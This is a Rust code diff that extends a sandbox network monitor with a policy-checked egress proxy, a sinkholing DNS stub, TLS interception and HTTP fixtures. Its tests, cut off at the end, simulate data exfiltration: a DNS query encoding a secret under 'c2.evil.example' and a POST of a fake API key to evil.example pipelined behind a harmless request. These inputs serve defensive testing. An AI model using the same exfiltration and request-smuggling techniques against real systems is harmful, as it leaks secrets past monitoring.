@@ -1,22 +1,39 @@
-use std::io::{Read, Write};
-use std::net::{SocketAddr, TcpListener, TcpStream};
+use std::io::{self, Read, Write};
+use std::net::{Shutdown, SocketAddr, TcpListener, TcpStream, UdpSocket};
+use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::{Arc, Mutex};
 use std::thread::{self, JoinHandle};
+use std::time::Duration;
 
 use serde::{Deserialize, Serialize};
 use wasmtime_wasi::sockets::SocketAddrUse;
 
 use crate::monitor::event::{MonitorEvent, MonitorEventKind};
+use crate::sandbox::network_policy::{NetworkDecision, NetworkPolicy};
 use crate::taint::source::TaintSource;
 
-#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
+use super::dns::parse_query;
+use super::http_fixtures::{CannedResponse, HttpFixtures};
+use super::tls_intercept::InterceptCa;
+
+// request bodies kept in observations; larger bodies are still forwarded whole
+const MAX_RECORDED_BODY: usize = 64 * 1024;
+const MAX_REQUEST_HEAD: usize = 64 * 1024;
+const MAX_REQUEST_BYTES: usize = 16 * 1024 * 1024;
+// a client that stops mid-request is treated as having sent everything
+const REQUEST_READ_TIMEOUT: Duration = Duration::from_secs(5);
+// how soon a stopped DNS stub notices and gives up its address
+const DNS_STOP_POLL: Duration = Duration::from_millis(100);
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq, Eq)]
 #[serde(rename_all = "kebab-case")]
 pub enum NetworkDirection {
+    #[default]
     Outbound,
     Inbound,
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
 pub struct NetworkObservation {
     pub direction: NetworkDirection,
     pub protocol: String,
@@ -25,12 +42,28 @@ pub struct NetworkObservation {
     pub url: Option<String>,
     pub allowed: bool,
     pub bytes_sent: Option<usize>,
+    // stand-in server that answered instead of remote_host
+    #[serde(default)]
+    pub redirected_to: Option<String>,
+    // proxied HTTP only: what the guest sent and what came back
+    #[serde(default)]
+    pub request_headers: Vec<(String, String)>,
+    #[serde(default)]
+    pub request_body: Option<String>,
+    #[serde(default)]
+    pub response_status: Option<u16>,
+    #[serde(default)]
+    pub response_body: Option<String>,
 }
 
 #[derive(Default)]
 pub struct NetworkCollector {
     observations: Mutex<Vec<NetworkObservation>>,
     proxy_handle: Mutex<Option<JoinHandle<()>>>,
+    dns_stub: Mutex<Option<(Arc<AtomicBool>, JoinHandle<()>)>>,
+    policy: Mutex<NetworkPolicy>,
+    fixtures: Mutex<HttpFixtures>,
+    tls_intercept: Mutex<Option<Arc<InterceptCa>>>,
 }
 
 impl NetworkCollector {
@@ -38,6 +71,32 @@ impl NetworkCollector {
         Self::default()
     }
 
+    pub fn set_policy(&self, policy: NetworkPolicy) {
+        *self.policy.lock().unwrap() = policy;
+    }
+
+    pub fn policy(&self) -> NetworkPolicy {
+        self.policy.lock().unwrap().clone()
+    }
+
+    /// canned responses the egress proxy answers with instead of the network
+    pub fn set_fixtures(&self, fixtures: HttpFixtures) {
+        *self.fixtures.lock().unwrap() = fixtures;
+    }
+
+    fn canned_response(&self, method: &str, url: &str) -> Option<CannedResponse> {
+        self.fixtures.lock().unwrap().find(method, url).cloned()
+    }
+
+    /// decrypt CONNECT tunnels with certificates minted by `ca`
+    pub fn set_tls_intercept(&self, ca: Arc<InterceptCa>) {
+        *self.tls_intercept.lock().unwrap() = Some(ca);
+    }
+
+    fn tls_intercept(&self) -> Option<Arc<InterceptCa>> {
+        self.tls_intercept.lock().unwrap().clone()
+    }
+
     pub fn record(&self, obs: NetworkObservation) {
         self.observations.lock().unwrap().push(obs);
     }
@@ -51,25 +110,31 @@ impl NetworkCollector {
     }
 
     pub fn as_taint_sources(&self) -> Vec<TaintSource> {
-        self.observations()
-            .into_iter()
-            .map(|obs| {
-                let endpoint = match obs.remote_port {
-                    Some(port) => format!("{}:{}", obs.remote_host, port),
-                    None => obs.remote_host.clone(),
-                };
-                let content = obs
-                    .url
-                    .clone()
-                    .unwrap_or_else(|| format!("{}://{}", obs.protocol, endpoint));
-                TaintSource::NetworkConnect {
-                    host: obs.remote_host,
-                    port: obs.remote_port.unwrap_or(0),
-                    protocol: obs.protocol,
-                    content,
-                }
-            })
-            .collect()
+        let mut sources = Vec::new();
+        for obs in self.observations() {
+            let endpoint = match obs.remote_port {
+                Some(port) => format!("{}:{}", obs.remote_host, port),
+                None => obs.remote_host.clone(),
+            };
+            let url = obs
+                .url
+                .clone()
+                .unwrap_or_else(|| format!("{}://{}", obs.protocol, endpoint));
+            // a response body is upstream data the server may hand to the model
+            if let Some(body) = obs.response_body.filter(|body| !body.is_empty()) {
+                sources.push(TaintSource::HttpFetch {
+                    url: url.clone(),
+                    content: body,
+                });
+            }
+            sources.push(TaintSource::NetworkConnect {
+                host: obs.remote_host,
+                port: obs.remote_port.unwrap_or(0),
+                protocol: obs.protocol,
+                content: url,
+            });
+        }
+        sources
     }
 
     pub fn as_monitor_events(&self) -> Vec<MonitorEvent> {
@@ -101,48 +166,68 @@ impl NetworkCollector {
                         "url": obs.url,
                         "allowed": obs.allowed,
                         "bytes_sent": obs.bytes_sent,
+                        "redirected_to": obs.redirected_to,
+                        "request_body": obs.request_body,
+                        "response_status": obs.response_status,
                     }),
                 }
             })
             .collect()
     }
 
+    /// policy decision for a WASI socket; wasmtime cannot re-address a socket,
+    /// so with a stand-in configured only the stand-in itself is reachable
+    pub fn check_socket(&self, addr: SocketAddr, use_case: SocketAddrUse) -> bool {
+        let decision = self
+            .policy()
+            .decide(&addr.ip().to_string(), Some(addr.port()));
+        let allowed = decision == NetworkDecision::Allow;
+        self.record_socket_attempt(addr, use_case, allowed);
+        allowed
+    }
+
     pub fn record_socket_attempt(&self, addr: SocketAddr, use_case: SocketAddrUse, allowed: bool) {
         self.record(NetworkObservation {
             direction: NetworkDirection::Outbound,
             protocol: socket_use_protocol(use_case).to_string(),
             remote_host: addr.ip().to_string(),
             remote_port: Some(addr.port()),
-            url: None,
             allowed,
-            bytes_sent: None,
+            ..Default::default()
         });
     }
 
-    pub fn record_http_proxy_request(
-        &self,
-        method: &str,
-        target: &str,
-        allowed: bool,
-        bytes_sent: Option<usize>,
-    ) {
-        let (host, port, url) = parse_http_target(target);
-        self.record(NetworkObservation {
-            direction: NetworkDirection::Outbound,
-            protocol: if method.eq_ignore_ascii_case("CONNECT") {
-                "tcp-connect".to_string()
-            } else {
-                "http".to_string()
-            },
-            remote_host: host,
-            remote_port: port,
-            url,
-            allowed,
-            bytes_sent,
+    /// policy decision for a request through the egress proxy
+    pub fn check_http_proxy_request(&self, request: &ProxiedRequest) -> NetworkDecision {
+        let (host, port, _) = parse_http_target(&request.target);
+        let port = port.or(if request.target.starts_with("https://") {
+            Some(443)
+        } else if request.target.starts_with("http://") {
+            Some(80)
+        } else {
+            None
         });
+        let decision = self.policy().decide(&host, port);
+        self.record(http_observation(request, &decision));
+        decision
+    }
+
+    /// answer a plain HTTP request from the fixtures, if one matches
+    fn serve_canned(&self, request: &ProxiedRequest) -> Option<CannedResponse> {
+        if request.is_connect() {
+            return None;
+        }
+        let canned = self.canned_response(&request.method, &request.target)?;
+        let mut obs = http_observation(request, &NetworkDecision::Allow);
+        obs.redirected_to = Some("http-fixtures".to_string());
+        obs.response_status = Some(canned.status);
+        obs.response_body = Some(canned.body.clone());
+        self.record(obs);
+        Some(canned)
     }
 
-    /// Start a localhost egress proxy that logs HTTP/CONNECT attempts and denies by default.
+    /// Start a localhost egress proxy that logs HTTP/CONNECT attempts, denies by
+    /// default and forwards what the network policy allows.
     pub fn start_egress_proxy(self: &Arc<Self>) -> std::io::Result<u16> {
         let listener = TcpListener::bind("127.0.0.1:0")?;
         listener.set_nonblocking(false)?;
@@ -161,6 +246,66 @@ impl NetworkCollector {
         *self.proxy_handle.lock().unwrap() = Some(handle);
         Ok(port)
     }
+
+    /// Start a stub DNS resolver on the first free address in `candidates`. Every
+    /// query is recorded and answered with a sinkhole; nothing is forwarded.
+    pub fn start_dns_stub(
+        self: &Arc<Self>,
+        candidates: impl IntoIterator<Item = SocketAddr>,
+    ) -> io::Result<SocketAddr> {
+        let mut last_err = io::Error::new(io::ErrorKind::AddrNotAvailable, "no stub address");
+        let socket = candidates
+            .into_iter()
+            .find_map(|addr| UdpSocket::bind(addr).map_err(|err| last_err = err).ok())
+            .ok_or(last_err)?;
+        let addr = socket.local_addr()?;
+        socket.set_read_timeout(Some(DNS_STOP_POLL))?;
+        let collector = Arc::clone(self);
+        let stop = Arc::new(AtomicBool::new(false));
+        let stopped = Arc::clone(&stop);
+
+        let handle = thread::spawn(move || {
+            let mut buf = [0u8; 512];
+            while !stopped.load(Ordering::Relaxed) {
+                let (n, peer) = match socket.recv_from(&mut buf) {
+                    Ok(received) => received,
+                    Err(err)
+                        if matches!(
+                            err.kind(),
+                            io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
+                        ) =>
+                    {
+                        continue;
+                    }
+                    Err(_) => break,
+                };
+                let Some(query) = parse_query(&buf[..n]) else {
+                    continue;
+                };
+                collector.record(NetworkObservation {
+                    protocol: "dns".to_string(),
+                    remote_host: query.name.clone(),
+                    url: Some(format!("dns://{}?type={}", query.name, query.qtype_name())),
+                    allowed: false,
+                    bytes_sent: Some(n),
+                    ..Default::default()
+                });
+                let _ = socket.send_to(&query.answer(), peer);
+            }
+        });
+
+        *self.dns_stub.lock().unwrap() = Some((stop, handle));
+        Ok(addr)
+    }
+
+    /// stop the stub resolver and wait until its address is free again
+    pub fn stop_dns_stub(&self) {
+        let Some((stop, handle)) = self.dns_stub.lock().unwrap().take() else {
+            return;
+        };
+        stop.store(true, Ordering::Relaxed);
+        let _ = handle.join();
+    }
 }
 
 pub fn observations_from_http_intents(stdout: &str, stderr: &str) -> Vec<NetworkObservation> {
@@ -181,7 +326,7 @@ pub fn observations_from_http_intents(stdout: &str, stderr: &str) -> Vec<Network
                     remote_port: port,
                     url: parsed_url,
                     allowed: false,
-                    bytes_sent: None,
+                    ..Default::default()
                 });
             }
         }
@@ -189,6 +334,37 @@ pub fn observations_from_http_intents(stdout: &str, stderr: &str) -> Vec<Network
     out
 }
 
+fn http_observation(request: &ProxiedRequest, decision: &NetworkDecision) -> NetworkObservation {
+    let (host, port, url) = parse_http_target(&request.target);
+    NetworkObservation {
+        direction: NetworkDirection::Outbound,
+        protocol: if request.is_connect() {
+            "tcp-connect".to_string()
+        } else if request.target.starts_with("https://") {
+            "https".to_string()
+        } else {
+            "http".to_string()
+        },
+        remote_host: host,
+        remote_port: port,
+        url,
+        allowed: decision.allowed(),
+        bytes_sent: Some(request.raw.len()),
+        redirected_to: decision.redirected_to(),
+        request_headers: request
+            .headers
+            .iter()
+            .filter(|(name, _)| {
+                !name.eq_ignore_ascii_case("host") && !name.eq_ignore_ascii_case("content-length")
+            })
+            .cloned()
+            .collect(),
+        request_body: (!request.body.is_empty())
+            .then(|| String::from_utf8_lossy(&request.body).into_owned()),
+        ..Default::default()
+    }
+}
+
 fn socket_use_protocol(use_case: SocketAddrUse) -> &'static str {
     match use_case {
         SocketAddrUse::TcpBind => "tcp-bind",
@@ -219,31 +395,374 @@ fn split_host_port_url(target: &str, url: Option<String>) -> (String, Option<u16
     (host_port.to_string(), None, url)
 }
 
+/// one client request as read by the egress proxy
+pub struct ProxiedRequest {
+    pub method: String,
+    pub target: String,
+    pub version: String,
+    pub headers: Vec<(String, String)>,
+    // decoded body, cut at MAX_RECORDED_BODY
+    pub body: Vec<u8>,
+    // the request as read from the client, through the end of its body; a CONNECT
+    // keeps whatever the client sent behind it
+    raw: Vec<u8>,
+    head_len: usize,
+}
+
+impl ProxiedRequest {
+    pub fn is_connect(&self) -> bool {
+        self.method.eq_ignore_ascii_case("CONNECT")
+    }
+
+    pub fn header(&self, name: &str) -> Option<&str> {
+        self.headers
+            .iter()
+            .find(|(key, _)| key.eq_ignore_ascii_case(name))
+            .map(|(_, value)| value.as_str())
+    }
+}
+
+/// read the request head and, for anything but CONNECT, the whole body
+/// the next request on a connection; `pipelined` holds bytes read past the end
+/// of the previous one and gets whatever follows this one
+fn read_request(
+    stream: &mut impl Read,
+    pipelined: &mut Vec<u8>,
+) -> io::Result<Option<ProxiedRequest>> {
+    let mut raw = std::mem::take(pipelined);
+    let head_len = loop {
+        if let Some(end) = find_head_end(&raw) {
+            break end;
+        }
+        if raw.len() > MAX_REQUEST_HEAD || !read_more(stream, &mut raw)? {
+            if raw.is_empty() {
+                return Ok(None);
+            }
+            break raw.len();
+        }
+    };
+
+    let head = String::from_utf8_lossy(&raw[..head_len]).into_owned();
+    let mut lines = head.split("\r\n");
+    let request_line = lines.next().unwrap_or_default();
+    let mut parts = request_line.split_whitespace();
+    let method = parts.next().unwrap_or("UNKNOWN").to_string();
+    let target = parts.next().unwrap_or("").to_string();
+    let version = parts.next().unwrap_or("HTTP/1.1").to_string();
+    let headers: Vec<(String, String)> = lines
+        .filter_map(|line| line.split_once(':'))
+        .map(|(key, value)| (key.trim().to_string(), value.trim().to_string()))
+        .collect();
+
+    let mut request = ProxiedRequest {
+        method,
+        target,
+        version,
+        headers,
+        body: Vec::new(),
+        raw,
+        head_len,
+    };
+    if request.is_connect() {
+        return Ok(Some(request));
+    }
+
+    let chunked = request
+        .header("transfer-encoding")
+        .is_some_and(|te| te.to_ascii_lowercase().contains("chunked"));
+    let content_length = request
+        .header("content-length")
+        .and_then(|len| len.parse::<usize>().ok())
+        .unwrap_or(0);
+
+    let (mut body, body_len) = loop {
+        let received = &request.raw[head_len..];
+        if chunked {
+            if let Some(decoded) = decode_chunked(received) {
+                break decoded;
+            }
+        } else if received.len() >= content_length {
+            break (received[..content_length].to_vec(), content_length);
+        }
+        if request.raw.len() > MAX_REQUEST_BYTES || !read_more(stream, &mut request.raw)? {
+            // short body: keep what arrived
+            let received = &request.raw[head_len..];
+            break (received.to_vec(), received.len());
+        }
+    };
+    *pipelined = request.raw.split_off(head_len + body_len);
+    body.truncate(MAX_RECORDED_BODY);
+    request.body = body;
+    Ok(Some(request))
+}
+
+/// append the next chunk from the client; false on EOF or a stalled client
+fn read_more(stream: &mut impl Read, raw: &mut Vec<u8>) -> io::Result<bool> {
+    let mut chunk = [0u8; 4096];
+    match stream.read(&mut chunk) {
+        Ok(0) => Ok(false),
+        Ok(n) => {
+            raw.extend_from_slice(&chunk[..n]);
+            Ok(true)
+        }
+        Err(err)
+            if matches!(
+                err.kind(),
+                io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
+            ) =>
+        {
+            Ok(false)
+        }
+        Err(err) => Err(err),
+    }
+}
+
+/// decoded chunked body and the bytes it took up, or None while the terminating
+/// chunk is still missing
+fn decode_chunked(mut data: &[u8]) -> Option<(Vec<u8>, usize)> {
+    let total = data.len();
+    let mut body = Vec::new();
+    loop {
+        let line_end = data.windows(2).position(|w| w == b"\r\n")?;
+        let size_line = std::str::from_utf8(&data[..line_end]).ok()?;
+        let size_hex = size_line.split(';').next().unwrap_or("").trim();
+        let size = usize::from_str_radix(size_hex, 16).ok()?;
+        data = &data[line_end + 2..];
+        if size == 0 {
+            // trailer fields, if any, end with an empty line
+            let end = if data.starts_with(b"\r\n") {
+                2
+            } else {
+                find_head_end(data)?
+            };
+            return Some((body, total - data.len() + end));
+        }
+        if data.len() < size + 2 {
+            return None;
+        }
+        body.extend_from_slice(&data[..size]);
+        data = &data[size + 2..];
+    }
+}
+
 fn handle_proxy_connection(
     mut stream: TcpStream,
     collector: Arc<NetworkCollector>,
 ) -> std::io::Result<()> {
-    let mut buf = [0u8; 4096];
-    let n = stream.read(&mut buf)?;
-    if n == 0 {
-        return Ok(());
+    stream.set_read_timeout(Some(REQUEST_READ_TIMEOUT))?;
+    let mut pipelined = Vec::new();
+    let mut answered = false;
+    while let Some(request) = read_request(&mut stream, &mut pipelined)? {
+        if answered {
+            // every answer closes the connection, so a request kept alive behind
+            // it is recorded but never answered or forwarded
+            collector.record(http_observation(&request, &NetworkDecision::Deny));
+            continue;
+        }
+        if request.is_connect() {
+            return match collector.tls_intercept() {
+                Some(ca) => intercept_tls(stream, request, &ca, &collector),
+                None => tunnel_connect(stream, request, &collector),
+            };
+        }
+        answer_plain(&mut stream, &request, &collector)?;
+        let _ = stream.shutdown(Shutdown::Write);
+        answered = true;
+    }
+    Ok(())
+}
+
+fn answer_plain(
+    stream: &mut TcpStream,
+    request: &ProxiedRequest,
+    collector: &NetworkCollector,
+) -> io::Result<()> {
+    if let Some(canned) = collector.serve_canned(request) {
+        return canned.write_to(stream);
+    }
+
+    let upstream = match collector.check_http_proxy_request(request) {
+        NetworkDecision::Deny => {
+            return respond(
+                stream,
+                "403 Forbidden",
+                "connection denied by sandbox network monitor\r\n",
+            );
+        }
+        NetworkDecision::Redirect(addr) => addr.to_string(),
+        NetworkDecision::Allow => {
+            let (host, port, _) = parse_http_target(&request.target);
+            let default_port = if request.target.starts_with("https://") {
+                443
+            } else {
+                80
+            };
+            format!("{host}:{}", port.unwrap_or(default_port))
+        }
+    };
+    // the upstream ends its response with EOF, so it never sees a second request
+    let forwarded = TcpStream::connect(&upstream).and_then(|mut upstream| {
+        upstream.write_all(&close_delimited_head(request))?;
+        copy_until_eof(&mut upstream, stream)
+    });
+    if forwarded.is_err() {
+        respond(
+            stream,
+            "502 Bad Gateway",
+            "allowed upstream is unreachable\r\n",
+        )?;
     }
+    Ok(())
+}
+
+/// an opaque CONNECT tunnel: only the target is checked
+fn tunnel_connect(
+    mut stream: TcpStream,
+    request: ProxiedRequest,
+    collector: &NetworkCollector,
+) -> io::Result<()> {
+    let upstream = match collector.check_http_proxy_request(&request) {
+        NetworkDecision::Deny => {
+            return respond(
+                &mut stream,
+                "403 Forbidden",
+                "connection denied by sandbox network monitor\r\n",
+            );
+        }
+        NetworkDecision::Redirect(addr) => addr.to_string(),
+        NetworkDecision::Allow => {
+            let (host, port, _) = parse_http_target(&request.target);
+            format!("{host}:{}", port.unwrap_or(443))
+        }
+    };
+
+    let Ok(mut upstream) = TcpStream::connect(&upstream) else {
+        return respond(
+            &mut stream,
+            "502 Bad Gateway",
+            "allowed upstream is unreachable\r\n",
+        );
+    };
+    // the tunnel may sit idle for longer than a request read
+    stream.set_read_timeout(None)?;
+    stream.write_all(b"HTTP/1.1 200 Connection Established\r\n\r\n")?;
+    // the client may have pipelined its TLS hello behind the CONNECT head
+    upstream.write_all(&request.raw[request.head_len..])?;
+    tunnel(stream, upstream)
+}
 
-    let request = String::from_utf8_lossy(&buf[..n]);
-    let mut lines = request.lines();
-    let Some(request_line) = lines.next() else {
+/// terminate a CONNECT tunnel with a minted certificate and handle the one
+/// request inside it like a plain proxied request
+fn intercept_tls(
+    mut stream: TcpStream,
+    connect: ProxiedRequest,
+    ca: &InterceptCa,
+    collector: &NetworkCollector,
+) -> io::Result<()> {
+    let (host, port, _) = parse_http_target(&connect.target);
+    stream.write_all(b"HTTP/1.1 200 Connection Established\r\n\r\n")?;
+    let Ok(mut tls) = ca.accept(&host, &connect.raw[connect.head_len..], stream) else {
+        // client does not trust the CA (or is not speaking TLS): all we saw is the CONNECT
+        collector.check_http_proxy_request(&connect);
         return Ok(());
     };
+    let Some(mut request) = read_request(&mut tls, &mut Vec::new())? else {
+        collector.check_http_proxy_request(&connect);
+        return Ok(());
+    };
+    let port = port.unwrap_or(443);
+    request.target = match port {
+        443 => format!("https://{host}{}", request.target),
+        _ => format!("https://{host}:{port}{}", request.target),
+    };
 
-    let mut parts = request_line.split_whitespace();
-    let method = parts.next().unwrap_or("UNKNOWN");
-    let target = parts.next().unwrap_or("");
+    if let Some(canned) = collector.serve_canned(&request) {
+        canned.write_to(&mut tls)?;
+        return close_tls(tls);
+    }
 
-    collector.record_http_proxy_request(method, target, false, Some(n));
+    let head = close_delimited_head(&request);
+    let forwarded = match collector.check_http_proxy_request(&request) {
+        NetworkDecision::Deny => {
+            respond(
+                &mut tls,
+                "403 Forbidden",
+                "connection denied by sandbox network monitor\r\n",
+            )?;
+            return close_tls(tls);
+        }
+        // stand-ins are local mocks and get the decrypted request in plain HTTP
+        NetworkDecision::Redirect(addr) => TcpStream::connect(addr).and_then(|mut upstream| {
+            upstream.write_all(&head)?;
+            io::copy(&mut upstream, &mut tls)
+        }),
+        NetworkDecision::Allow => TcpStream::connect((host.as_str(), port))
+            .and_then(|upstream| ca.connect(&host, upstream))
+            .and_then(|mut upstream| {
+                upstream.write_all(&head)?;
+                // servers often drop the connection without close_notify
+                copy_until_eof(&mut upstream, &mut tls)
+            }),
+    };
+    if forwarded.is_err() {
+        respond(
+            &mut tls,
+            "502 Bad Gateway",
+            "allowed upstream is unreachable\r\n",
+        )?;
+    }
+    close_tls(tls)
+}
+
+/// origin-form head with `Connection: close`, so the upstream ends the response with EOF
+fn close_delimited_head(request: &ProxiedRequest) -> Vec<u8> {
+    let mut head = format!(
+        "{} {} {}\r\n",
+        request.method,
+        origin_form(&request.target),
+        request.version
+    );
+    for (name, value) in &request.headers {
+        if ["connection", "proxy-connection", "keep-alive"]
+            .iter()
+            .any(|hop| name.eq_ignore_ascii_case(hop))
+        {
+            continue;
+        }
+        head.push_str(&format!("{name}: {value}\r\n"));
+    }
+    head.push_str("Connection: close\r\n\r\n");
+    let mut out = head.into_bytes();
+    out.extend_from_slice(&request.raw[request.head_len.min(request.raw.len())..]);
+    out
+}
 
-    let body = "connection denied by sandbox network monitor\r\n";
+fn copy_until_eof(from: &mut impl Read, to: &mut impl Write) -> io::Result<u64> {
+    let mut buf = [0u8; 8192];
+    let mut total = 0;
+    loop {
+        match from.read(&mut buf) {
+            Ok(0) => return Ok(total),
+            Ok(n) => {
+                to.write_all(&buf[..n])?;
+                total += n as u64;
+            }
+            Err(err) if err.kind() == io::ErrorKind::UnexpectedEof => return Ok(total),
+            Err(err) => return Err(err),
+        }
+    }
+}
+
+fn close_tls(mut tls: rustls::StreamOwned<rustls::ServerConnection, TcpStream>) -> io::Result<()> {
+    tls.conn.send_close_notify();
+    let _ = tls.flush();
+    let _ = tls.sock.shutdown(Shutdown::Write);
+    Ok(())
+}
+
+fn respond(stream: &mut impl Write, status: &str, body: &str) -> io::Result<()> {
     let response = format!(
-        "HTTP/1.1 403 Forbidden\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}",
+        "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}",
         body.len(),
         body
     );
@@ -251,6 +770,36 @@ fn handle_proxy_connection(
     Ok(())
 }
 
+fn find_head_end(buf: &[u8]) -> Option<usize> {
+    buf.windows(4)
+        .position(|window| window == b"\r\n\r\n")
+        .map(|pos| pos + 4)
+}
+
+fn origin_form(target: &str) -> &str {
+    let rest = target
+        .strip_prefix("http://")
+        .or_else(|| target.strip_prefix("https://"));
+    match rest {
+        Some(rest) => rest.find('/').map(|idx| &rest[idx..]).unwrap_or("/"),
+        None => target,
+    }
+}
+
+/// copy bytes both ways until either side closes
+fn tunnel(mut client: TcpStream, mut upstream: TcpStream) -> io::Result<()> {
+    let mut client_read = client.try_clone()?;
+    let mut upstream_write = upstream.try_clone()?;
+    let outbound = thread::spawn(move || {
+        let _ = io::copy(&mut client_read, &mut upstream_write);
+        let _ = upstream_write.shutdown(Shutdown::Write);
+    });
+    let _ = io::copy(&mut upstream, &mut client);
+    let _ = client.shutdown(Shutdown::Write);
+    let _ = outbound.join();
+    Ok(())
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -290,13 +839,184 @@ mod tests {
             protocol: "tcp-connect".to_string(),
             remote_host: "203.0.113.10".to_string(),
             remote_port: Some(443),
-            url: None,
             allowed: false,
-            bytes_sent: None,
+            ..Default::default()
         });
 
         let sources = collector.as_taint_sources();
         assert_eq!(sources.len(), 1);
         assert!(matches!(sources[0], TaintSource::NetworkConnect { .. }));
     }
+
+    #[test]
+    fn dns_stub_records_and_sinkholes_queries() {
+        let collector = Arc::new(NetworkCollector::new());
+        let stub = collector
+            .start_dns_stub(["127.0.0.1:0".parse().unwrap()])
+            .expect("bind stub");
+
+        let client = UdpSocket::bind("127.0.0.1:0").unwrap();
+        client
+            .set_read_timeout(Some(Duration::from_secs(2)))
+            .unwrap();
+        let mut query = vec![0xab, 0xcd, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
+        for label in ["sekret0123", "c2", "evil", "example"] {
+            query.push(label.len() as u8);
+            query.extend_from_slice(label.as_bytes());
+        }
+        query.extend_from_slice(&[0, 0, 1, 0, 1]);
+        client.send_to(&query, stub).unwrap();
+        let mut answer = [0u8; 512];
+        let n = client.recv(&mut answer).expect("stub answers");
+        assert!(answer[..n].ends_with(&[198, 18, 0, 1]));
+
+        let obs = collector.observations();
+        assert_eq!(obs.len(), 1);
+        assert_eq!(obs[0].protocol, "dns");
+        assert_eq!(obs[0].remote_host, "sekret0123.c2.evil.example");
+        assert!(!obs[0].allowed);
+
+        // a stopped stub gives its address back for the next scan
+        collector.stop_dns_stub();
+        UdpSocket::bind(stub).expect("stub address is free again");
+    }
+
+    #[test]
+    fn egress_proxy_redirects_allowed_requests_to_stand_in() {
+        let stand_in = TcpListener::bind("127.0.0.1:0").expect("bind stand-in");
+        let stand_in_addr = stand_in.local_addr().unwrap();
+        let served = thread::spawn(move || {
+            let (mut conn, _) = stand_in.accept().expect("accept proxied request");
+            let mut buf = [0u8; 1024];
+            let n = conn.read(&mut buf).unwrap();
+            conn.write_all(
+                b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\nmock",
+            )
+            .unwrap();
+            String::from_utf8_lossy(&buf[..n]).into_owned()
+        });
+
+        let collector = Arc::new(NetworkCollector::new());
+        collector.set_policy(NetworkPolicy {
+            allow: vec!["api.example.com".parse().unwrap()],
+            stand_in: Some(stand_in_addr),
+            ..NetworkPolicy::default()
+        });
+        let port = collector.start_egress_proxy().expect("bind proxy");
+
+        let mut stream = TcpStream::connect(format!("127.0.0.1:{port}")).expect("connect to proxy");
+        stream
+            .write_all(
+                b"GET http://api.example.com/v1/items HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
+            )
+            .expect("write GET");
+        let mut response = String::new();
+        stream.read_to_string(&mut response).expect("read response");
+
+        assert!(response.ends_with("mock"));
+        assert!(
+            served
+                .join()
+                .unwrap()
+                .starts_with("GET /v1/items HTTP/1.1\r\n")
+        );
+        let obs = collector.observations();
+        assert!(obs[0].allowed);
+        assert_eq!(obs[0].redirected_to, Some(stand_in_addr.to_string()));
+    }
+
+    #[test]
+    fn egress_proxy_checks_every_request_on_a_kept_alive_connection() {
+        let stand_in = TcpListener::bind("127.0.0.1:0").expect("bind stand-in");
+        let stand_in_addr = stand_in.local_addr().unwrap();
+        let served = thread::spawn(move || {
+            let (mut conn, _) = stand_in.accept().expect("accept proxied request");
+            let mut buf = [0u8; 1024];
+            let n = conn.read(&mut buf).unwrap();
+            conn.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nmock")
+                .unwrap();
+            conn.shutdown(Shutdown::Write).unwrap();
+            // anything the proxy sends after the first request would show up here
+            let mut rest = Vec::new();
+            let _ = conn.read_to_end(&mut rest);
+            [&buf[..n], &rest[..]].concat()
+        });
+
+        let collector = Arc::new(NetworkCollector::new());
+        collector.set_policy(NetworkPolicy {
+            allow: vec!["api.example.com".parse().unwrap()],
+            stand_in: Some(stand_in_addr),
+            ..NetworkPolicy::default()
+        });
+        let port = collector.start_egress_proxy().expect("bind proxy");
+
+        // a harmless request first, the secret pipelined right behind it
+        let mut stream = TcpStream::connect(format!("127.0.0.1:{port}")).expect("connect to proxy");
+        stream
+            .write_all(
+                b"GET http://api.example.com/v1/items HTTP/1.1\r\nHost: api.example.com\r\n\r\n\
+                  POST http://evil.example/collect HTTP/1.1\r\nHost: evil.example\r\n\
+                  Content-Length: 12\r\n\r\nsk-live-1234",
+            )
+            .expect("write requests");
+        let mut response = String::new();
+        stream.read_to_string(&mut response).expect("read response");
+        drop(stream);
+
+        assert!(response.ends_with("mock"));
+        let served = String::from_utf8(served.join().unwrap()).unwrap();
+        assert!(served.starts_with("GET /v1/items HTTP/1.1\r\n"));
+        assert!(!served.contains("sk-live-1234"));
+        // the proxy thread records the second request after the client is done
+        let mut obs = collector.observations();
+        for _ in 0..50 {
+            if obs.len() == 2 {
+                break;
+            }
+            thread::sleep(Duration::from_millis(20));
+            obs = collector.observations();
+        }
+        assert_eq!(obs.len(), 2);
+        assert!(obs[0].allowed);
+        assert_eq!(obs[1].remote_host, "evil.example");
+        assert!(!obs[1].allowed);
+        assert_eq!(obs[1].request_body.as_deref(), Some("sk-live-1234"));
+    }
+
+    #[test]
+    fn egress_proxy_serves_fixtures_and_records_bodies() {
+        let collector = Arc::new(NetworkCollector::new());
+        collector.set_fixtures(
+            toml::from_str(
+                r#"
+                [[response]]
+                url = "http://api.example.com/v1/"
+                content_type = "application/json"
+                body = '{"forecast": "upstream-data-42"}'
+                "#,
+            )
+            .unwrap(),
+        );
+        let port = collector.start_egress_proxy().expect("bind proxy");
+
+        let mut stream = TcpStream::connect(format!("127.0.0.1:{port}")).expect("connect to proxy");
+        stream
+            .write_all(
+                b"POST http://api.example.com/v1/report HTTP/1.1\r\nHost: api.example.com\r\n\
+                  Transfer-Encoding: chunked\r\n\r\n6\r\nSEKRET\r\n4\r\n-123\r\n0\r\n\r\n",
+            )
+            .expect("write POST");
+        let mut response = String::new();
+        stream.read_to_string(&mut response).expect("read response");
+        assert!(response.ends_with("upstream-data-42\"}"));
+
+        let obs = collector.observations();
+        assert_eq!(obs[0].request_body.as_deref(), Some("SEKRET-123"));
+        assert_eq!(obs[0].response_status, Some(200));
+        assert!(collector.as_taint_sources().iter().any(|source| matches!(
+            source,
+            TaintSource::HttpFetch { url, content }
